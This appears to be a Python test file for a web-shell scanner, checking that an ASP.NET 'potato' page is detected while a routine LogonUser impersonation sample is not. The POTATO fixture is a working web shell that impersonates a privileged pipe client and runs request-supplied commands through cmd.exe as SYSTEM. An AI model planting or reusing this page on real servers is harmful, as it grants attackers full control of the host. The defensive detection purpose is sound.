"""Privilege escalation from the IIS worker's service account ("potato" pages): the page opens a
named pipe, makes a privileged service connect to it, takes the client's token with
ImpersonateNamedPipeClient (or NtImpersonateThread) and runs a command as SYSTEM
(EXH-WS-CODE-NATIVE-CODE). The impersonation sample web applications copy (LogonUser with the
site's own account, DuplicateToken, WindowsIdentity.Impersonate) stays below medium."""

from __future__ import annotations

from code_support import assert_benign, assert_found

POTATO = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
[DllImport("kernel32.dll", SetLastError = true)]
static extern IntPtr CreateNamedPipe(string name, uint openMode, uint pipeMode, uint maxInstances,
    uint outBuffer, uint inBuffer, uint timeout, IntPtr security);
[DllImport("kernel32.dll")] static extern bool ConnectNamedPipe(IntPtr pipe, IntPtr overlapped);
[DllImport("advapi32.dll", SetLastError = true)] static extern bool ImpersonateNamedPipeClient(IntPtr pipe);
void Page_Load(object sender, EventArgs e) {
    IntPtr pipe = CreateNamedPipe(@"\\\\.\\pipe\\" + Request["n"] + @"\\pipe\\spoolss", 3, 0, 10, 2048, 2048, 0, IntPtr.Zero);
    ConnectNamedPipe(pipe, IntPtr.Zero);
    ImpersonateNamedPipeClient(pipe);
    System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]);
}
</script>"""

KB_IMPERSONATION = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<%@ Import Namespace="System.Security.Principal" %>
<script runat="server">
[DllImport("advapi32.dll")] static extern int LogonUserA(string user, string domain, string password,
    int logonType, int provider, ref IntPtr token);
[DllImport("advapi32.dll", CharSet = CharSet.Auto, SetLastError = true)]
static extern int DuplicateToken(IntPtr token, int level, ref IntPtr newToken);
void Page_Load(object sender, EventArgs e) {
    IntPtr token = IntPtr.Zero, copy = IntPtr.Zero;
    string user = ConfigurationManager.AppSettings["ShareUser"];
    string password = ConfigurationManager.AppSettings["SharePassword"];
    if (LogonUserA(user, "CORP", password, 2, 0, ref token) != 0 && DuplicateToken(token, 2, ref copy) != 0) {
        using (WindowsImpersonationContext ctx = new WindowsIdentity(copy).Impersonate()) {
            Label1.Text = System.IO.Directory.GetFiles(@"\\\\files\\reports").Length.ToString();
        }
    }
}
</script>"""


def test_potato_page_found() -> None:
    assert_found("p.aspx", POTATO, "EXH-WS-CODE-NATIVE-CODE", ["ImpersonateNamedPipeClient by P/Invoke"])


def test_impersonation_sample_not_reported() -> None:
    assert_benign("share.aspx", KB_IMPERSONATION)
